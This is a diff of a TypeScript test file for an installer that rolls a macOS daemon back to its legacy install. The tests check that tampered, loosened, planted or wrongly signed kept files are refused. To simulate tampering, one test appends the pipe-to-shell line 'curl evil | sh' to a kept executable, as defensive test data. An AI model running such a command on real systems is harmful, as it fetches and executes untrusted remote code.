@@ -6,11 +6,15 @@ import {ExitCode} from '../../src/exit-codes.js'
 import type {LifecycleContext} from '../../src/lifecycle/context.js'
 import * as lifecycle from '../../src/lifecycle/index.js'
 import {PrefixLayout} from '../../src/layout/prefix-layout.js'
+import {cleanupTitle} from '../../src/lifecycle/cleanup-title.js'
+import type {Journal} from '../../src/lifecycle/journal.js'
 import type {TrustStore} from '../../src/trust/trust-store.js'
 import {SAMPLE_DAEMON} from '../doubles/fake-launchd/daemon-plist.js'
 import {startFakeLaunchd, type FakeLaunchd} from '../doubles/fake-launchd/fake-launchd.js'
 import {buildPayload, makeRoot, sampleDaemonPrograms, snapshotTree, testContext, testIdentity} from '../support/lifecycle-fixture.js'
 import type {TestIdentity} from '../support/test-pki.js'
+import {expectFinding} from '../support/expect-finding.js'
+import {ARTIFACTS, realArtifact} from '../support/real-artifacts.js'
 
 const NAME = 'thed'
 const LEGACY_PROGRAM = `/opt/${NAME}/bin/${NAME}`
@@ -106,12 +110,21 @@ describe('lifecycle: adopting the legacy install already on the Mac (fake launch
     const m = await legacyMachine()
     const payload = await m.payload()
     const dry = await lifecycle.install(m.ctx, payload, {dryRun: true})
-    let journal: {steps: {id: string; kind: string; title: string}[]} | undefined
-    const watching = {...m.ctx, faultHook: (point: string) => void (point === 'journal:opened' ? (journal = JSON.parse(readFileSync(m.layout.journal, 'utf8')) as typeof journal) : undefined)}
+    let journal: Journal | undefined
+    const watching = {...m.ctx, faultHook: (point: string) => void (point === 'journal:opened' ? (journal = JSON.parse(readFileSync(m.layout.journal, 'utf8')) as Journal) : undefined)}
     const r = await lifecycle.install(watching, payload)
     assert.equal(r.exitCode, ExitCode.ok, r.message)
     assert.deepEqual(dry.plan!.map((s) => [s.id, s.kind, s.title]), journal!.steps.map((s) => [s.id, s.kind, s.title]))
+    assert.deepEqual(dry.finish, journal!.finish.map((c) => ({kind: c.kind, title: cleanupTitle(c)})))
     assert.ok(journal!.steps.some((s) => s.id === 'adopt-legacy' && s.kind === 'move'))
+    // Rolling back to the legacy install: the dry run shows the steps and the finish its journal holds.
+    const dryBack = await lifecycle.rollback(m.ctx, NAME, {dryRun: true})
+    journal = undefined
+    const back = await lifecycle.rollback(watching, NAME)
+    assert.equal(back.exitCode, ExitCode.ok, back.message)
+    assert.deepEqual(dryBack.plan!.map((s) => [s.id, s.kind, s.title]), journal!.steps.map((s) => [s.id, s.kind, s.title]))
+    assert.deepEqual(dryBack.finish, journal!.finish.map((c) => ({kind: c.kind, title: cleanupTitle(c)})))
+    assert.ok(journal!.steps.some((s) => s.kind === 'registry'), 'the registry change is a step')
     await cleanUp(m)
   })
 
@@ -207,6 +220,86 @@ describe('lifecycle: adopting the legacy install already on the Mac (fake launch
     assert.equal(ok.exitCode, ExitCode.ok, ok.message)
     assert.ok(existsSync(join(m.layout.rollbackSlot, 'legacy', `${m.oldLabel}.plist`)))
     await cleanUp(m)
+  })
+
+  it('rollback to the legacy install first checks the kept files are what adoption recorded: a changed, loosened or added file is refused (exit 3), nothing changes', async () => {
+    const m = await legacyMachine()
+    assert.equal((await lifecycle.install(m.ctx, await m.payload())).exitCode, ExitCode.ok)
+    const receipt = JSON.parse(readFileSync(m.layout.receipt, 'utf8')) as {adopted: {files: {path: string; sha256: string}[]}}
+    assert.deepEqual(receipt.adopted.files.map((f) => f.path).sort(), [`${m.label}.plist`, join('legacy', 'bin', NAME), join('legacy', `${m.oldLabel}.plist`)].sort())
+    const kept = join(m.layout.rollbackSlot, 'legacy', 'bin', NAME)
+    const keptHelper = join(m.layout.rollbackSlot, 'legacy', `${m.oldLabel}.plist`)
+    const original = readFileSync(kept)
+    const refused = async (why: RegExp, path: string, dryRun = false): Promise<void> => {
+      const before = machineState(m)
+      const r = await lifecycle.rollback(m.ctx, NAME, {dryRun})
+      const f = expectFinding(r, {id: 'rollback.legacy-changed', severity: 'error', exitCode: ExitCode.verificationFailed})
+      assert.equal(f.path, path)
+      assert.match(f.message, why)
+      assert.match(r.message, /failed verification; nothing was changed and thed 1\.0\.0 stays installed/)
+      assert.deepEqual(machineState(m), before)
+      assert.ok(await running(m, m.label), 'the bundled daemon still runs')
+    }
+    writeFileSync(kept, Buffer.concat([original, Buffer.from('\ncurl evil | sh\n')]))
+    await refused(/has SHA-256 [0-9a-f]{64}; adoption recorded [0-9a-f]{64}/, kept)
+    await refused(/has SHA-256/, kept, true)
+    writeFileSync(kept, original)
+    chmodSync(kept, 0o775)
+    await refused(/mode 775, not root-owned and writable only by root/, kept)
+    chmodSync(kept, 0o755)
+    writeFileSync(keptHelper, readFileSync(keptHelper, 'utf8').replace('<true/>', '<false/>'))
+    await refused(/has SHA-256/, keptHelper)
+    const planted = join(m.layout.rollbackSlot, 'legacy', 'com.example.planted.plist')
+    writeFileSync(planted, plist.build({Label: 'com.example.planted', Program: '/Users/Shared/planted'}))
+    writeFileSync(keptHelper, readFileSync(keptHelper, 'utf8').replace('<false/>', '<true/>'))
+    await refused(/was not recorded at adoption/, planted)
+    rmSync(planted)
+    const back = await lifecycle.rollback(m.ctx, NAME)
+    assert.equal(back.exitCode, ExitCode.ok, `${back.message} ${JSON.stringify(back.findings)}`)
+    assert.ok(await running(m, m.oldLabel), 'the old helper job runs again')
+    await cleanUp(m)
+  })
+
+  it('rollback to the legacy install refuses when the receipt recorded nothing of it (an older adoption), exit 3, nothing changes', async () => {
+    const m = await legacyMachine()
+    assert.equal((await lifecycle.install(m.ctx, await m.payload())).exitCode, ExitCode.ok)
+    const receipt = JSON.parse(readFileSync(m.layout.receipt, 'utf8')) as Record<string, unknown>
+    delete receipt['adopted']
+    writeFileSync(m.layout.receipt, JSON.stringify(receipt))
+    const before = machineState(m)
+    const r = await lifecycle.rollback(m.ctx, NAME)
+    const f = expectFinding(r, {id: 'rollback.legacy-not-recorded', severity: 'error', exitCode: ExitCode.verificationFailed})
+    assert.equal(f.path, m.layout.receipt)
+    assert.deepEqual(machineState(m), before)
+    assert.ok(await running(m, m.label))
+    await cleanUp(m)
+  })
+
+  it('rollback to a legacy Mach-O executable judges its code signature as verify does: a broken one is refused (exit 3), an intact one runs again', async function () {
+    this.timeout(120_000)
+    const real = readFileSync(await realArtifact(ARTIFACTS.esbuild))
+    for (const broken of [true, false]) {
+      const m = await legacyMachine()
+      const bytes = Buffer.from(real)
+      // A byte inside the first code page: the signature no longer matches the code it was made over.
+      if (broken) bytes[0x2000] = bytes[0x2000]! ^ 0xff
+      writeFileSync(join(m.layout.bin, NAME), bytes)
+      assert.equal((await lifecycle.install(m.ctx, await m.payload())).exitCode, ExitCode.ok)
+      const before = machineState(m)
+      const r = await lifecycle.rollback(m.ctx, NAME)
+      if (broken) {
+        assert.equal(r.exitCode, ExitCode.verificationFailed, r.message)
+        const errors = (r.findings ?? []).filter((f) => f.severity === 'error')
+        assert.ok(errors.length > 0 && errors.every((f) => f.path.endsWith(join('legacy', 'bin', NAME))), JSON.stringify(r.findings))
+        assert.ok(errors.every((f) => !f.id.startsWith('rollback.')), 'the verifier\'s own findings')
+        assert.deepEqual(machineState(m), before)
+        assert.ok(await running(m, m.label), 'the bundled daemon still runs')
+      } else {
+        assert.equal(r.exitCode, ExitCode.ok, `${r.message} ${JSON.stringify(r.findings)}`)
+        assert.deepEqual(readFileSync(join(m.layout.bin, NAME)), real)
+      }
+      await cleanUp(m)
+    }
   })
 
   it('refuses what it cannot adopt safely: a legacy executable others may change, a plain file no job runs', async () => {
